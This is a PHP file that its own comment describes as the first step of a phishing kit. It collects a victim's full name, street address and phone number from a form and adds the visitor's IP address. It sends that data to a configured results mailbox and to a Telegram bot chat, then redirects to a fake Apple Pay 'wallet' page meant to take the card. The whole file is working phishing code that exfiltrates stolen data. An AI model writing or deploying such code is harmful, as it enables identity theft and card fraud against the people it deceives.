<?php
// a kit's first step: who the victim is and where they live, to the kit's chat and its
// results mail, then the "wallet" page that asks for the card
session_start();
require 'config.php';
$_SESSION['name'] = $_POST['fullname'];
$_SESSION['street'] = $_POST['street'];
$_SESSION['phone'] = $_POST['phone'];
$msg = "Name: " . $_SESSION['name'] . "\nStreet: " . $_SESSION['street']
     . "\nPhone: " . $_SESSION['phone'] . "\nIP: " . $_SERVER['REMOTE_ADDR'];
mail($result_mail, "INFOS " . $_SERVER['REMOTE_ADDR'], $msg);
file_get_contents("https://api.telegram.org/bot$bot/sendMessage?" . http_build_query(['chat_id' => $chat, 'text' => $msg]));
header("Location: ../applepay.php");
exit;
